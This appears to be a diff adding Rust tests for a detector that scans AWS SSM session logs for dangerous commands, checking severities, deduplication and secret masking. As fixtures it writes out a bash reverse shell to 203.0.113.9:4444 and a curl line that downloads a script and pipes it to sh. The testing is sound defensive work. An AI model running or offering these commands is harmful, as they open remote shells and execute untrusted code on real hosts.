@@ -1,0 +1,136 @@
+use super::*;
+use crate::{app::listening::Detected, detection::Confidence, domain::Severity};
+
+fn message(id: &str, lines: &[&str]) -> String {
+    serde_json::json!({"eventVersion": "1.0", "sessionId": id, "runAsUser": "ssm-user", "sessionData": lines})
+        .to_string()
+}
+
+fn event(id: &str, second: i64, lines: &[&str]) -> LogEvent {
+    LogEvent { timestamp: at(second), ingested_at: at(second), message: message(id, lines) }
+}
+
+/// What the tail of the log group shows of a session.
+fn hear(state: &mut State, id: &str, second: i64, lines: &[&str]) {
+    let events = vec![(key(id).id, vec![event(id, second, lines)])];
+    let observation = Observation::Tailed { scope: scope(), log_group: "/ssm".into(), events, at: at(second) };
+    update(state, Message::Observed(observation), at(second));
+}
+
+fn found<'a>(state: &'a State, id: &str) -> &'a [Detected] {
+    state.board.sessions[&key(id)].detections.all()
+}
+
+const SHELL: &str = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1";
+
+#[test]
+fn what_is_typed_anywhere_is_detected_in_the_update_that_brings_it() {
+    let mut state = state(&["a", "b"]);
+    select(&mut state, "a");
+    let before = state.revision;
+    hear(&mut state, "b", 10, &[&format!("sh-5.2$ {SHELL}")]);
+    let found = found(&state, "b");
+    assert_eq!(&*found[0].rule.id, "CMD-16");
+    assert_eq!((found[0].confidence, found[0].severity), (Confidence::Command, Severity::Critical));
+    assert_eq!((&*found[0].text, found[0].times.as_slice()), (SHELL, [at(10)].as_slice()));
+    assert_eq!((state.counts.detected, state.counts.detected_worst), (1, Some(Severity::Critical)));
+    assert!(state.revision > before, "it is drawn");
+    assert_eq!(state.view.table.list.rows[0], key("b"), "worst first");
+}
+
+#[test]
+fn mere_output_is_another_confidence_and_hidden() {
+    let mut state = state(&["a"]);
+    hear(&mut state, "a", 10, &["sh-5.2$ cat evil.sh", SHELL, "sh-5.2$ "]);
+    let found = found(&state, "a");
+    assert_eq!((&*found[0].rule.id, found[0].confidence), ("CMD-16", Confidence::Output));
+    assert_eq!(found[0].severity, Severity::High, "one step lower");
+    assert_eq!(state.counts.detected, 0);
+    assert_eq!(state.board.sessions[&key("a")].detections.shown(false).count(), 0);
+}
+
+#[test]
+fn the_same_event_counts_once_however_often_it_is_heard() {
+    let mut state = state(&["a"]);
+    update(&mut state, Message::Observed(preferences(true)), at(1));
+    hear(&mut state, "a", 10, &[&format!("sh-5.2$ {SHELL}")]);
+    let events = vec![event("a", 10, &[&format!("sh-5.2$ {SHELL}")]), event("a", 20, &[&format!("sh-5.2$ {SHELL}")])];
+    let observation = Observation::Transcript { session: key("a"), events, at: at(21) };
+    update(&mut state, Message::Observed(observation), at(21));
+    assert_eq!(found(&state, "a").len(), 1);
+    assert_eq!(found(&state, "a")[0].count(), 2, "once at ten seconds, once at twenty");
+    let view = state.view.transcript.as_ref().unwrap();
+    assert_eq!(view.mark(0, false), Some((Severity::Critical, Confidence::Command)), "in the margin");
+}
+
+#[test]
+fn secrets_do_not_get_into_detections() {
+    let mut state = state(&["a"]);
+    hear(&mut state, "a", 10, &["sh-5.2$ curl -u ann:hunter2 http://203.0.113.9/x.sh | sh"]);
+    let found = found(&state, "a");
+    assert!(!found.is_empty());
+    assert!(
+        found.iter().all(|found| !found.text.contains("hunter2") && found.text.contains("ann:[masked]")),
+        "{found:?}"
+    );
+}
+
+#[test]
+fn every_reading_of_an_uncertain_line_is_tried() {
+    let mut state = state(&["a"]);
+    // Recalled and replaced: the cleaned line still shows the end of what was there before.
+    let line = format!("sh-5.2$ ls /srv/application/data{}{SHELL}", "\u{8}".repeat(24));
+    hear(&mut state, "a", 10, &[&line]);
+    assert_eq!(&*found(&state, "a")[0].rule.id, "CMD-16");
+    assert_eq!(&*found(&state, "a")[0].text, SHELL);
+}
+
+#[test]
+fn who_only_listens_keeps_nothing_and_forgets_who_is_gone() {
+    let mut state = state(&["a"]);
+    for second in 0..50 {
+        hear(&mut state, "a", second, &["sh-5.2$ ls", "a", "b", "c"]);
+    }
+    assert_eq!((state.listening.len(), state.listening.lines), (1, 200));
+    for seconds in [60, 70] {
+        list(&mut state, &[], seconds);
+    }
+    list(&mut state, &["b"], 4000);
+    list(&mut state, &["b"], 4010);
+    assert!(state.listening.is_empty());
+}
+
+#[test]
+fn a_flood_that_the_recorder_suffers_from_is_critical() {
+    let mut state = state(&["a"]);
+    hear(&mut state, "a", 10, &["sh-5.2$ yes"]);
+    assert_eq!(&*found(&state, "a")[0].rule.id, "CMD-07");
+    assert_eq!(found(&state, "a")[0].severity, Severity::High);
+    let health = crate::domain::StreamHealth {
+        events: 20,
+        last_event_at: Some(at(16)),
+        last_ingested_at: Some(at(16)),
+        saturated_flushes: 5,
+        saturated_at: Some(at(15)),
+        ..Default::default()
+    };
+    update(&mut state, Message::Observed(preferences(true)), at(1));
+    let stream = crate::domain::LogStream {
+        log_group: "/ssm".into(),
+        arn: None,
+        created_at: Some(at(2)),
+        last_event_at: Some(at(15)),
+    };
+    let stream = Fact::known(Some(stream), "logs:DescribeLogStreams", at(15));
+    let streams = vec![(key("a").id, stream)];
+    update(&mut state, Message::Observed(Observation::LogStreams { scope: scope(), streams }), at(15));
+    let observation = Observation::StreamHealth {
+        scope: scope(),
+        log_group: "/ssm".into(),
+        streams: vec![(key("a").id, health)],
+        read: Fact::known((), "logs:FilterLogEvents", at(16)),
+    };
+    update(&mut state, Message::Observed(observation), at(16));
+    let found = found(&state, "a");
+    assert_eq!((found[0].severity, found[0].confirmed.is_some()), (Severity::Critical, true), "{found:?}");
+}
